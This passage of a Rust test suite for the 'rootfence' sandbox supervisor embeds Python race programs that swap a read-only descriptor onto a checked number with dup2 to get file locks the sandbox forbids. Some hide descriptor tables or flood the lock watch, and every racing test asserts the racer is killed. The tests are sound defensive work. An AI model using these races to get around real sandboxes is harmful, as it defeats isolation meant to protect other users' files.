        assert!(!probe.out.status.success(), "the racer lived on: {seen}");
    }
}

/// Python (after [`common::PRELUDE`]) for the racer tests: `locked()`
/// asks from a child (another lock owner, `F_GETLK`) whether `<ro>/file`
/// is locked; `race(A, B, T)` puts `A` (a writable descriptor) under the
/// number `T` and asks for a read lock on `T` while a second thread puts
/// `B` (a read-only descriptor of `<ro>/file`) under it, until `locked()`
/// or 20000 tries, and returns `(won, tries)`. `race(A, B, T, wait=S)`
/// asks with `F_SETLKW` for at most S seconds, and counts only a call that
/// waited (the file was held outside) as won.
fn racing(t: &common::Tree) -> String {
    format!(
        "import fcntl, struct, threading, time\n\
         RD = struct.pack('hhqqi', fcntl.F_RDLCK, 0, 0, 0, 0)\n\
         def locked():\n\
         \x20   rd, wr = os.pipe()\n\
         \x20   pid = os.fork()\n\
         \x20   if pid == 0:\n\
         \x20       f = os.open('{ro}/file', os.O_RDONLY)\n\
         \x20       got = fcntl.fcntl(f, fcntl.F_GETLK, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 0, 0, 0))\n\
         \x20       os.write(wr, b'1' if struct.unpack('hhqqi', got)[0] != fcntl.F_UNLCK else b'0')\n\
         \x20       os._exit(0)\n\
         \x20   os.close(wr); v = os.read(rd, 1); os.close(rd); os.waitpid(pid, 0)\n\
         \x20   return v == b'1'\n\
         def race(A, B, T, wait=None):\n\
         \x20   tries = 0\n\
         \x20   won = False\n\
         \x20   start = time.time()\n\
         \x20   while tries < 20000 and not won and (wait is None or time.time() - start < wait):\n\
         \x20       tries += 1\n\
         \x20       os.dup2(A, T)\n\
         \x20       k = tries % 200\n\
         \x20       go = threading.Event()\n\
         \x20       def flip():\n\
         \x20           go.wait()\n\
         \x20           for _ in range(k * 5): pass\n\
         \x20           os.dup2(B, T)\n\
         \x20       th = threading.Thread(target=flip); th.start(); go.set()\n\
         \x20       called = time.time()\n\
         \x20       try: fcntl.fcntl(T, fcntl.F_SETLK if wait is None else fcntl.F_SETLKW, RD)\n\
         \x20       except OSError: pass\n\
         \x20       waited = time.time() - called\n\
         \x20       th.join()\n\
         \x20       won = (wait is None or waited > 0.3) and locked()\n\
         \x20   return won, tries\n",
        ro = t.ro.display(),
    )
}

/// A racer's Python: [`racing`], `A` (a writable descriptor of
/// `<r>/mine`) and `B` (a read-only one of `<ro>/file`), then `setup`,
/// then `race(A, B, T{extra})` on number 100. Once won it prints
/// `won=N` and holds the lock `hold` seconds (rootfence must end it
/// before), else it prints `never won`.
fn racer(t: &common::Tree, setup: &str, extra: &str, hold: &str) -> String {
    racing(t)
        + &format!(
            "import fcntl, struct, threading, time\n\
             A = os.open('{r}/mine', os.O_RDWR | os.O_CREAT, 0o644)\n\
             B = os.open('{ro}/file', os.O_RDONLY)\n\
             {setup}\n\
             T = 100\n\
             won, tries = race(A, B, T{extra})\n\
             if won:\n\
             \x20   print('won=%d' % tries, flush=True)\n\
             \x20   time.sleep({hold})\n\
             else:\n\
             \x20   print('never won', flush=True)",
            ro = t.ro.display(),
            r = t.r.display(),
        )
}

#[test]
fn posix_read_lock_raced_onto_a_read_only_file_ends_the_racer() {
    let _timed = common::one_timed_test_at_a_time();
    // F_SETLK is judged on the descriptor the number names when the
    // supervisor looks, then CONTINUEd: the kernel takes the number again.
    // A second thread dup2()s a read-only descriptor of a read-granted
    // file onto it in between, and the kernel grants the read lock (a read
    // lock needs only read access), which would make a writer outside
    // (sqlite, any F_WRLCK) wait. The supervisor watches a process with
    // more than one thread once such a lock was let through: the racer is
    // killed as soon as it holds a lock on a file it may only read, which
    // releases it, and rootfence says why. The server checks each try from
    // a child (another lock owner, F_GETLK); once it wins, it waits for
    // its end (and would then print 'held', with the lock held).
    let t = tree();
    let code = racer(
        &t,
        "",
        "",
        "10",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Why, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_by_threads_whose_table_the_leader_left_ends_the_racer() {
    let _timed = common::one_timed_test_at_a_time();
    // A POSIX lock belongs to the descriptor table it was taken in, not
    // to the thread group's first thread. The first thread unshare()s its
    // descriptors (CLONE_FILES) before the read-only file is opened, then
    // two other threads, on the table it left, race the lock onto that
    // file: /proc/<pid>/fd and a copy by the process's pidfd show only the
    // first thread's table, which holds no descriptor of the file. The
    // lock must still be found and its process killed.
    let t = tree();
    let code = racing(&t)
        + &format!(
        "import ctypes, errno, fcntl, struct, threading, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         T = 100\n\
         left = threading.Event()\n\
         done = threading.Event()\n\
         result = []\n\
         def racer():\n\
         \x20   left.wait()\n\
         \x20   A = os.open('{r}/mine', os.O_RDWR | os.O_CREAT, 0o644)\n\
         \x20   B = os.open('{ro}/file', os.O_RDONLY)\n\
         \x20   won, tries = race(A, B, T)\n\
         \x20   result.append((won, tries))\n\
         \x20   done.set()\n\
         \x20   threading.Event().wait()\n\
         threading.Thread(target=racer, daemon=True).start()\n\
         if libc.unshare(0x400) != 0: print('unshare=' + errno.errorcode[ctypes.get_errno()], flush=True); os._exit(0)\n\
         left.set()\n\
         done.wait()\n\
         won, tries = result[0]\n\
         if won:\n\
         \x20   print('won=%d' % tries, flush=True)\n\
         \x20   time.sleep(2)\n\
         else:\n\
         \x20   print('never won', flush=True)",
        ro = t.ro.display(),
        r = t.r.display(),
    );
    let (probe, seen) = while_it_holds(&t, &code);
    let out = String::from_utf8_lossy(&probe.out.stdout).into_owned();
    // Or the first thread may not leave the table of the others.
    if out.contains("unshare=") {
        assert!(out.contains("unshare=EPERM"), "{out}");
        nothing_held_outside(&seen);
        return;
    }
    the_racer_was_ended(&t, &probe, &seen, Says::Why, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_by_threads_whose_first_thread_ended_ends_the_racer() {
    let _timed = common::one_timed_test_at_a_time();
    // As above, with the first thread ended (exit, not exit_group) while
    // the others race: its descriptors in /proc are none, and a copy by
    // the process's pidfd finds none. The lock must still be found and its
    // process killed.
    let t = tree();
    let code = racing(&t)
        + &format!(
        "import ctypes, errno, fcntl, struct, threading, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         T = 100\n\
         left = threading.Event()\n\
         done = threading.Event()\n\
         result = []\n\
         def racer():\n\
         \x20   left.wait()\n\
         \x20   A = os.open('{r}/mine', os.O_RDWR | os.O_CREAT, 0o644)\n\
         \x20   B = os.open('{ro}/file', os.O_RDONLY)\n\
         \x20   won, tries = race(A, B, T)\n\
         \x20   print('won=%d' % tries if won else 'never won', flush=True)\n\
         \x20   time.sleep(2)\n\
         \x20   print('held', flush=True)\n\
         \x20   sys.stdin.read()\n\
         \x20   os._exit(0)\n\
         threading.Thread(target=racer, daemon=True).start()\n\
         left.set()\n\
         libc.syscall(60, 0)",
        ro = t.ro.display(),
        r = t.r.display(),
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Why, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_by_a_server_of_many_threads_and_descriptors_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // The watch finds a lock's descriptors by looking at each one the
    // process has: a racer of many threads (on one table) and thousands of
    // descriptors must not make that look, and so its lock on a file it
    // may only read, last: it is still ended before a writer outside
    // looks, 300 ms after it won.
    let t = tree();
    let code = racer(
        &t,
        "extra = [os.dup(A) for _ in range(3000)]\n\
         threading.stack_size(256 * 1024)\n\
         stop = threading.Event()\n\
         idle = [threading.Thread(target=stop.wait, daemon=True) for _ in range(150)]\n\
         [th.start() for th in idle]",
        "",
        "0.3",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Killed, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_by_a_server_of_many_descriptor_tables_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // As above, with each idle thread on a descriptor table of its own
    // (unshare(CLONE_FILES)), each a copy of the thousands of descriptors:
    // the look must not grow with their number.
    let t = tree();
    let code = racer(
        &t,
        "extra = [os.dup(A) for _ in range(3000)]\n\
         threading.stack_size(256 * 1024)\n\
         stop = threading.Event()\n\
         import ctypes\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         def alone():\n\
         \x20   libc.unshare(0x400)\n\
         \x20   stop.wait()\n\
         idle = [threading.Thread(target=alone, daemon=True) for _ in range(150)]\n\
         [th.start() for th in idle]",
        "",
        "0.3",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Killed, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_beside_processes_that_keep_the_watch_busy_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // The watch finds each new lock's descriptors by looking at each
    // descriptor of its process, one process after another. Processes of
    // the server with thousands of descriptors that take and release a
    // lock on their own file over and over (a thousand times a second,
    // leaving the racer the CPU it needs to win its race on a machine of
    // two) keep each look long (each lock is judged anew once it was gone
    // at a look): a racer watched after them must still be ended before a
    // writer outside looks, 300 ms after it won.
    let t = tree();
    let code = racing(&t)
        + &format!(
        "import fcntl, struct, threading, time\n\
         me = os.getpid()\n\
         for i in range(50):\n\
         \x20   if os.fork() == 0:\n\
         \x20       D = os.open('{r}/decoy%d' % i, os.O_RDWR | os.O_CREAT, 0o644)\n\
         \x20       extra = [os.dup(D) for _ in range(6000)]\n\
         \x20       ev = threading.Event(); th = threading.Thread(target=ev.wait); th.start()\n\
         \x20       fcntl.lockf(D, fcntl.LOCK_EX | fcntl.LOCK_NB); fcntl.lockf(D, fcntl.LOCK_UN)\n\
         \x20       ev.set(); th.join()\n\
         \x20       while os.getppid() == me:\n\
         \x20           try:\n\
         \x20               fcntl.lockf(D, fcntl.LOCK_EX | fcntl.LOCK_NB); fcntl.lockf(D, fcntl.LOCK_UN)\n\
         \x20           except OSError: pass\n\
         \x20           time.sleep(0.001)\n\
         \x20       os._exit(0)\n\
         time.sleep(1)\n\
         A = os.open('{r}/mine', os.O_RDWR | os.O_CREAT, 0o644)\n\
         B = os.open('{ro}/file', os.O_RDONLY)\n\
         T = 100\n\
         tries = 0\n\
         won = False\n\
         start = time.time()\n\
         while tries < 20000 and not won and time.time() - start < 40:\n\
         \x20   tries += 1\n\
         \x20   os.dup2(A, T)\n\
         \x20   k = tries % 200\n\
         \x20   go = threading.Event()\n\
         \x20   def flip():\n\
         \x20       go.wait()\n\
         \x20       if k % 2: time.sleep(0.0005 * (k % 40))\n\
         \x20       else: [None for _ in range(k * 5)]\n\
         \x20       os.dup2(B, T)\n\
         \x20   th = threading.Thread(target=flip); th.start(); go.set()\n\
         \x20   try: fcntl.fcntl(T, fcntl.F_SETLK, RD)\n\
         \x20   except OSError: pass\n\
         \x20   th.join()\n\
         \x20   won = locked()\n\
         if won:\n\
         \x20   print('won=%d' % tries, flush=True)\n\
         \x20   time.sleep(0.3)\n\
         else:\n\
         \x20   print('never won %d' % tries, flush=True)",
        ro = t.ro.display(),
        r = t.r.display(),
    );
    // On a loaded machine the race may go unwon for its 40 s: that run
    // proves nothing either way, and the racer runs again (three runs at
    // most); a run that wins must be ended as always.
    let mut run = while_it_holds(&t, &code);
    for _ in 0..2 {
        if !String::from_utf8_lossy(&run.0.out.stdout).contains("never won") {
            break;
        }
        run = while_it_holds(&t, &code);
    }
    let (probe, seen) = run;
    the_racer_was_ended(&t, &probe, &seen, Says::Killed, Exit::Any);
}

#[test]
fn posix_read_lock_raced_while_the_kernels_table_of_locks_is_long_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // The kernel's table of all locks (/proc/locks) takes a time
    // quadratic in its length to read: a server that takes a hundred
    // thousand POSIX locks on its own files (a byte each, every other
    // byte, so that none merge) makes each read take seconds. A racer must
    // still be ended before a writer outside looks, 300 ms after it won.
    let t = tree();
    let code = racer(
        &t,
        &format!(
            "many = [os.open('{r}/many%d' % i, os.O_RDWR | os.O_CREAT, 0o644) for i in range(100)]\n\
         for f in many:\n\
         \x20   for b in range(1000): fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * b)",
            r = t.r.display()
        ),
        "",
        "0.3",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Why, Exit::Killed);
}

#[test]
fn posix_read_lock_raced_beside_threads_waiting_on_a_file_of_many_locks_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // Each watched call's number is looked at while its thread waits:
    // twenty threads wait (F_SETLKW) on a file of its own that holds
    // five thousand of its locks, whose /proc listing is long. The look
    // must not grow with that: a racer is still ended before a writer
    // outside looks, 300 ms after it won.
    let t = tree();
    let code = racer(
        &t,
        &format!(
            "C = os.open('{r}/many', os.O_RDWR | os.O_CREAT, 0o644)\n\
         for b in range(5000): fcntl.lockf(C, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * b)\n\
         me = os.getpid()\n\
         rd, wr = os.pipe()\n\
         if os.fork() == 0:\n\
         \x20   C2 = os.open('{r}/many', os.O_RDWR)\n\
         \x20   fcntl.lockf(C2, fcntl.LOCK_EX, 1, 1)\n\
         \x20   os.write(wr, b'x')\n\
         \x20   while os.getppid() == me: time.sleep(0.1)\n\
         \x20   os._exit(0)\n\
         os.read(rd, 1)\n\
         waiting = [threading.Thread(target=lambda: fcntl.lockf(C, fcntl.LOCK_EX, 1, 1), daemon=True) for _ in range(20)]\n\
         [w.start() for w in waiting]\n\
         time.sleep(0.5)",
            r = t.r.display()
        ),
        "",
        "0.3",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    the_racer_was_ended(&t, &probe, &seen, Says::Killed, Exit::Any);
}

#[test]
fn posix_read_lock_raced_and_granted_seconds_later_ends_soon() {
    let _timed = common::one_timed_test_at_a_time();
    // A raced F_SETLKW waits while a writer outside holds the file: the
    // kernel grants the read lock on the read-only file seconds after the
    // call was let through, when that writer lets go (a loaded machine, or
    // a racer that starves its own thread, delays a grant the same way).
    // The watch must still look under the call's number then, and end the
    // racer before a writer outside looks again, 300 ms later.
    let t = tree();
    let mut holder = std::process::Command::new(common::python())
        .args([
            "-c",
            "import fcntl, os, sys, time\n\
             f = os.open(sys.argv[1], os.O_RDWR)\n\
             fcntl.lockf(f, fcntl.LOCK_EX)\n\
             print('holding', flush=True)\n\
             time.sleep(float(sys.argv[2]))",
        ])
        .arg(t.ro.join("file"))
        .arg("3")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("a writer outside");
    let mut said = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(holder.stdout.as_mut().expect("its stdout")),
        &mut said,
    )
    .expect("the writer outside holds its lock");
    assert_eq!(said.trim(), "holding");
    let code = racer(
        &t,
        "",
        ", wait=2",
        "0.3",
    );
    let (probe, seen) = while_it_holds(&t, &code);
    let _ = holder.wait();
    the_racer_was_ended(&t, &probe, &seen, Says::Why, Exit::Killed);
}

/// A threaded server's POSIX locks on its own files (`code` checks
/// `posix_rw` on `<r>/w.lock`, `posix_ro_own`, `alive`) are real: it
/// lives, rootfence kills nothing, and a process outside finds
/// `<r>/w.lock` held.
fn its_own_locks_stand(t: &common::Tree, code: &str) {
    let outside = "import fcntl, os, sys, errno\n\
         try:\n\
         \x20   fcntl.lockf(os.open(sys.argv[1], os.O_RDWR), fcntl.LOCK_EX | fcntl.LOCK_NB); print('w=OK')\n\
         except OSError as e:\n\
         \x20   print('w=' + errno.errorcode[e.errno])";
    let w = t.r.join("w.lock");
    let (probe, seen) = hold_and_look(t, code, outside, &[&w]);
    let probe = probe
        .allowed("posix_rw")
        .allowed("posix_ro_own")
        .allowed("alive");
    assert!(probe.out.status.success(), "{seen}");
    assert!(!seen.contains("killed"), "{seen}");
    // The lock is real: the process outside finds it held.
    assert!(
        seen.contains("w=EAGAIN") || seen.contains("w=EACCES"),
        "{seen}"
    );
}

#[test]
fn posix_locks_of_a_threaded_server_on_its_own_files_stand() {
    // The twin of the racer: a process with several threads whose POSIX
    // locks are on its own files (opened for writing, and opened only for
    // reading in its writable root) keeps them, and lives.
    let t = tree();
    let code = format!(
        "import fcntl, threading, time\n\
         stop = threading.Event()\n\
         ths = [threading.Thread(target=stop.wait, daemon=True) for _ in range(3)]\n\
         [th.start() for th in ths]\n\
         w = os.open('{r}/w.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         check('posix_rw', lambda: fcntl.lockf(w, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         open('{r}/ro.lock', 'w').close()\n\
         ro = os.open('{r}/ro.lock', os.O_RDONLY)\n\
         check('posix_ro_own', lambda: fcntl.lockf(ro, fcntl.LOCK_SH | fcntl.LOCK_NB))\n\
         time.sleep(0.5)\n\
         check('alive', lambda: None)",
        r = t.r.display(),
    );
    its_own_locks_stand(&t, &code);
}

#[test]
fn posix_locks_of_a_server_whose_first_thread_ended_stand() {
    // The twin of the racer whose first thread ended: a process whose
    // first thread has exited (exit, not exit_group) and whose other
    // threads hold POSIX locks on its own files keeps them, and lives.
    let t = tree();
    let code = format!(
        "import ctypes, fcntl, threading, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         def rest():\n\
         \x20   stop = threading.Event()\n\
         \x20   ths = [threading.Thread(target=stop.wait, daemon=True) for _ in range(3)]\n\
         \x20   [th.start() for th in ths]\n\
         \x20   time.sleep(0.1)\n\
         \x20   w = os.open('{r}/w.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         \x20   check('posix_rw', lambda: fcntl.lockf(w, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         \x20   open('{r}/ro.lock', 'w').close()\n\
         \x20   ro = os.open('{r}/ro.lock', os.O_RDONLY)\n\
         \x20   check('posix_ro_own', lambda: fcntl.lockf(ro, fcntl.LOCK_SH | fcntl.LOCK_NB))\n\
         \x20   time.sleep(0.5)\n\
         \x20   check('alive', lambda: None)\n\
         \x20   print('held', flush=True)\n\
         \x20   sys.stdin.read()\n\
         \x20   os._exit(0)\n\
         threading.Thread(target=rest).start()\n\
         libc.syscall(60, 0)",
        r = t.r.display(),
    );
    its_own_locks_stand(&t, &code);
}

#[test]
fn a_descriptor_table_shared_with_another_process_is_refused() {
    // clone(CLONE_FILES) without CLONE_THREAD makes a second process on
    // the same descriptor table, whose locks would outlive the process
    // that took them: refused. Threads, fork() and posix_spawn go on.
    let t = tree();
    let code = "import ctypes, threading, subprocess\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         def shared():\n\
         \x20   r = libc.syscall(56, 0x400 | 17, 0, 0, 0, 0)\n\
         \x20   if r == 0: os._exit(0)\n\
         \x20   if r < 0: raise OSError(ctypes.get_errno(), 'clone')\n\
         \x20   os.waitpid(r, 0)\n\
         check('clone_files', shared)\n\
         th = threading.Thread(target=lambda: None); th.start(); th.join()\n\
         check('thread', lambda: None)\n\
         def fork():\n\
         \x20   p = os.fork()\n\
         \x20   if p == 0: os._exit(0)\n\
         \x20   os.waitpid(p, 0)\n\
         check('fork', fork)\n\
         check('spawn', lambda: subprocess.run(['true'], check=True))";
    t.py(&[], code)
        .expect("clone_files", "EPERM")
        .allowed("thread")
        .allowed("fork")
        .allowed("spawn");
}

#[test]
fn a_second_descriptor_table_in_a_process_of_several_threads_is_refused() {
    // A thread that unshares its descriptors (unshare(CLONE_FILES),
    // close_range(CLOSE_RANGE_UNSHARE)) leaves its process with two tables,
    // and a lock in the one the lock watch does not look at: refused in a
    // process of several threads; in a process of one thread (nothing left
    // behind) it goes on.
    let t = tree();
    let code = "import ctypes, threading\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         def sc(r):\n\
         \x20   if r != 0: raise OSError(ctypes.get_errno(), 'call')\n\
         check('unshare_alone', lambda: sc(libc.unshare(0x400)))\n\
         check('close_range_alone', lambda: sc(libc.syscall(436, 1000, 1001, 2)))\n\
         stop = threading.Event()\n\
         th = threading.Thread(target=stop.wait); th.start()\n\
         check('unshare_threaded', lambda: sc(libc.unshare(0x400)))\n\
         check('close_range_threaded', lambda: sc(libc.syscall(436, 1000, 1001, 2)))\n\
         stop.set(); th.join()";
    t.py(&[], code)
        .allowed("unshare_alone")
        .allowed("close_range_alone")
        .expect("unshare_threaded", "EPERM")
        .expect("close_range_threaded", "EPERM");
}

#[test]
fn locks_on_its_own_files_work_for_sqlite_and_multiprocessing() {
    // The allowed twin of the lock attacks: in the writable root, two
    // processes writing one sqlite database at once (POSIX locks, busy
    // waits), and Python's multiprocessing (a lock, a queue, a pool).
    let t = tree();
    let code = format!(
        "import sqlite3, multiprocessing as mp\n\
         db = '{r}/t.db'\n\
         c = sqlite3.connect(db); c.execute('create table t (p int, i int)'); c.commit(); c.close()\n\
         def writer(p):\n\
         \x20   c = sqlite3.connect(db, timeout=30)\n\
         \x20   for i in range(50):\n\
         \x20       c.execute('insert into t values (?, ?)', (p, i)); c.commit()\n\
         \x20   c.close()\n\
         def both():\n\
         \x20   ps = [mp.Process(target=writer, args=(p,)) for p in range(2)]\n\
         \x20   [p.start() for p in ps]; [p.join() for p in ps]\n\
         \x20   n = sqlite3.connect(db).execute('select count(*) from t').fetchone()[0]\n\
         \x20   if n != 100 or any(p.exitcode for p in ps): raise OSError(5, 'rows %d' % n)\n\
         check('sqlite_two_writers', both)\n\
         def pool():\n\
         \x20   with mp.Pool(2) as pl:\n\
         \x20       if pl.map(abs, [-1, -2, -3]) != [1, 2, 3]: raise OSError(5, 'pool')\n\
         \x20   l = mp.Lock(); q = mp.Queue()\n\
         \x20   with l: q.put(1)\n\
         \x20   if q.get(timeout=10) != 1: raise OSError(5, 'queue')\n\
         check('multiprocessing', pool)",
        r = t.r.display(),
    );
    // Its semaphores live in /dev/shm, the server's own in every mode.
    t.py(&[], &code)
        .allowed("sqlite_two_writers")
        .allowed("multiprocessing");
}

#[test]
fn locks_on_read_only_descriptors_of_its_own_files_exclude_each_other() {
    // flock(1) opens its file O_RDONLY (a directory can only be opened so);
    // a read-only sqlite connection takes its SHARED lock (F_RDLCK) on a
    // read-only descriptor. On a file in the writable root these locks
    // must be real (they locked nothing when only the open mode was
    // judged): a second flock(1) inside waits, a writer waits for a
    // reader.
    let t = tree();
    let code = format!(
        "import subprocess, time, fcntl\n\
         def busy(argv):\n\
         \x20   if subprocess.run(argv, stderr=subprocess.DEVNULL).returncode != 0:\n\
         \x20       raise OSError(errno.EAGAIN, 'busy')\n\
         f = '{r}/f.lock'\n\
         a = subprocess.Popen(['flock', f, 'sleep', '1'])\n\
         time.sleep(0.3)\n\
         check('flock1_busy', lambda: busy(['flock', '-n', f, 'true']))\n\
         a.wait()\n\
         check('flock1_free', lambda: busy(['flock', '-n', f, 'true']))\n\
         a = subprocess.Popen(['flock', '{r}', 'sleep', '1'])\n\
         time.sleep(0.3)\n\
         check('flock1_dir_busy', lambda: busy(['flock', '-n', '{r}', 'true']))\n\
         a.wait()\n\
         check('flock1_dir_free', lambda: busy(['flock', '-n', '{r}', 'true']))\n\
         open('{r}/db', 'w').close()\n\
         ro = os.open('{r}/db', os.O_RDONLY)\n\
         fcntl.lockf(ro, fcntl.LOCK_SH)\n\
         check('posix_reader_excludes_writer', lambda: busy([sys.executable, '-c', \
         'import fcntl, os; fcntl.lockf(os.open(\"{r}/db\", os.O_RDWR), fcntl.LOCK_EX | fcntl.LOCK_NB)']))\n\
         fcntl.lockf(ro, fcntl.LOCK_UN)\n\
         check('posix_writer_once_read', lambda: busy([sys.executable, '-c', \
         'import fcntl, os; fcntl.lockf(os.open(\"{r}/db\", os.O_RDWR), fcntl.LOCK_EX | fcntl.LOCK_NB)']))",
        r = t.r.display(),
    );
    t.py(&[], &code)
        .expect("flock1_busy", "EAGAIN")
        .allowed("flock1_free")
        .expect("flock1_dir_busy", "EAGAIN")
        .allowed("flock1_dir_free")
        .expect("posix_reader_excludes_writer", "EAGAIN")
        .allowed("posix_writer_once_read");
}

#[test]
fn waits_given_up_or_beyond_the_bound_hold_nothing_and_leave_locks_working() {
    // A lock another process holds (a file in the writable root): waits
    // for it beyond the supervisor's bound are refused (ENOLCK), a wait
    // interrupted by a signal (no restart) or whose waiter is killed
    // takes nothing once the holder lets go, and a wait afterwards works:
    // no waiter is leaked, nothing left locked.
    let t = tree();
    let code = format!(
        "import fcntl, threading, time, subprocess\n\
         f = '{r}/held.lock'\n\
         open(f, 'w').close()\n\
         holder = subprocess.Popen([sys.executable, '-c', 'import fcntl, os, time; fcntl.flock(os.open(\"%s\", os.O_RDWR), fcntl.LOCK_EX); time.sleep(3)' % f])\n\
         time.sleep(0.3)\n\
         res = []\n\
         def wait():\n\
         \x20   fd = os.open(f, os.O_RDWR)\n\
         \x20   try:\n\
         \x20       fcntl.flock(fd, fcntl.LOCK_EX)\n\
         \x20       res.append('OK')\n\
         \x20       fcntl.flock(fd, fcntl.LOCK_UN)\n\
         \x20   except OSError as e:\n\
         \x20       res.append(errno.errorcode[e.errno])\n\
         \x20   os.close(fd)\n\
         # A waiter killed while it waits.\n\
         k = subprocess.Popen([sys.executable, '-c', 'import fcntl, os; fcntl.flock(os.open(\"%s\", os.O_RDWR), fcntl.LOCK_EX); import time; time.sleep(60)' % f])\n\
         # A wait interrupted by a signal whose handler raises.\n\
         class Alarm(Exception): pass\n\
         def on_alarm(*a): raise Alarm()\n\
         signal.signal(signal.SIGALRM, on_alarm)\n\
         own = os.open(f, os.O_RDWR)\n\
         signal.setitimer(signal.ITIMER_REAL, 0.3)\n\
         try:\n\
         \x20   fcntl.flock(own, fcntl.LOCK_EX); print('interrupted=took', flush=True)\n\
         except Alarm:\n\
         \x20   print('interrupted=EINTR', flush=True)\n\
         k.kill(); k.wait()\n\
         time.sleep(0.2)\n\
         ths = [threading.Thread(target=wait, daemon=True) for _ in range(70)]\n\
         [x.start() for x in ths]\n\
         time.sleep(0.5)\n\
         check('beyond_bound', lambda: (_ for _ in ()).throw(OSError(errno.ENOLCK, '')) if 'ENOLCK' in res else None)\n\
         holder.wait()\n\
         [x.join(10) for x in ths]\n\
         print('res=' + ','.join(res), flush=True)\n\
         check('waiters_done', lambda: None if res.count('OK') == 64 and res.count('ENOLCK') == 6 else (_ for _ in ()).throw(OSError(errno.EIO, str(res))))\n\
         def free():\n\
         \x20   fd = os.open(f, os.O_RDWR)\n\
         \x20   fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n\
         \x20   os.close(fd)\n\
         check('free_now', free)\n\
         check('own_free_now', lambda: fcntl.flock(own, fcntl.LOCK_EX | fcntl.LOCK_NB))",
        r = t.r.display(),
    );
    t.py(&[], &code)
        .expect("beyond_bound", "ENOLCK")
        .expect("interrupted", "EINTR")
        .allowed("waiters_done")
        .allowed("free_now")
        .allowed("own_free_now");
}

#[test]
fn flock_from_a_thread_raced_onto_a_read_only_file_holds_nothing_outside() {
    // A lock asked for by a thread that is not its process's first: the
    // supervisor must copy that thread's descriptor as it does the first's.
    // (pidfd_open() of a thread's id fails without PIDFD_THREAD; the
    // supervisor then judged the number by /proc and let the kernel lock
    // it, and a second thread dup2()ing a read-only descriptor of a
    // read-granted file onto the number in between got an exclusive
    // flock() on it, which made flock() outside wait.) The server tries
    // until /proc/locks shows a lock on the file, or gives up.
    let t = tree();
    let code = format!(
        "import fcntl, threading\n\
         A = os.open('{r}/mine', os.O_RDWR | os.O_CREAT, 0o644)\n\
         B = os.open('{ro}/file', os.O_RDONLY)\n\
         ino = os.stat('{ro}/file').st_ino\n\
         T = 100\n\
         def locked():\n\
         \x20   with open('/proc/locks') as f:\n\
         \x20       return any((':%d ' % ino) in l and 'FLOCK' in l for l in f)\n\
         for i in range(3000):\n\
         \x20   os.dup2(A, T)\n\
         \x20   k = i % 300\n\
         \x20   go = threading.Event()\n\
         \x20   def flip():\n\
         \x20       go.wait()\n\
         \x20       for _ in range(k * 3): pass\n\
         \x20       os.dup2(B, T)\n\
         \x20   def lock():\n\
         \x20       try: fcntl.flock(T, fcntl.LOCK_EX | fcntl.LOCK_NB)\n\
         \x20       except OSError: pass\n\
         \x20   th = threading.Thread(target=flip); th.start()\n\
         \x20   lt = threading.Thread(target=lock); lt.start()\n\
         \x20   go.set(); th.join(); lt.join()\n\
         \x20   fcntl.flock(A, fcntl.LOCK_UN)\n\
         \x20   if locked():\n\
         \x20       print('won=%d' % i, flush=True)\n\
         \x20       break",
        ro = t.ro.display(),
        r = t.r.display(),
    );
    let (_probe, seen) = while_it_holds(&t, &code);
    nothing_held_outside(&seen);
}

#[test]
fn locks_on_devices_it_may_write_hold_nothing_outside() {
    // /dev/null is writable by everyone, the server too, and the same
    // device outside: an exclusive lock on it (flock, POSIX, OFD) made
    // flock /dev/null outside wait. A lock on a device is the server's
    // alone; writing it still works.
    let t = tree();
    let code = "import fcntl, struct\n\
         n = os.open('/dev/null', os.O_RDWR)\n\
         check('flock_null', lambda: fcntl.flock(n, fcntl.LOCK_EX))\n\
         check('posix_null', lambda: fcntl.lockf(n, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         m = os.open('/dev/null', os.O_WRONLY)\n\
         check('ofd_null', lambda: fcntl.fcntl(m, 37, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 0, 0, 0)))\n\
         check('write_null', lambda: os.write(n, b'x'))";
    let (probe, seen) = while_it_holds_on(&t, code, std::path::Path::new("/dev/null"));
    probe
        .allowed("flock_null")
        .allowed("posix_null")
        .allowed("ofd_null")
        .allowed("write_null");
    nothing_held_outside(&seen);
}
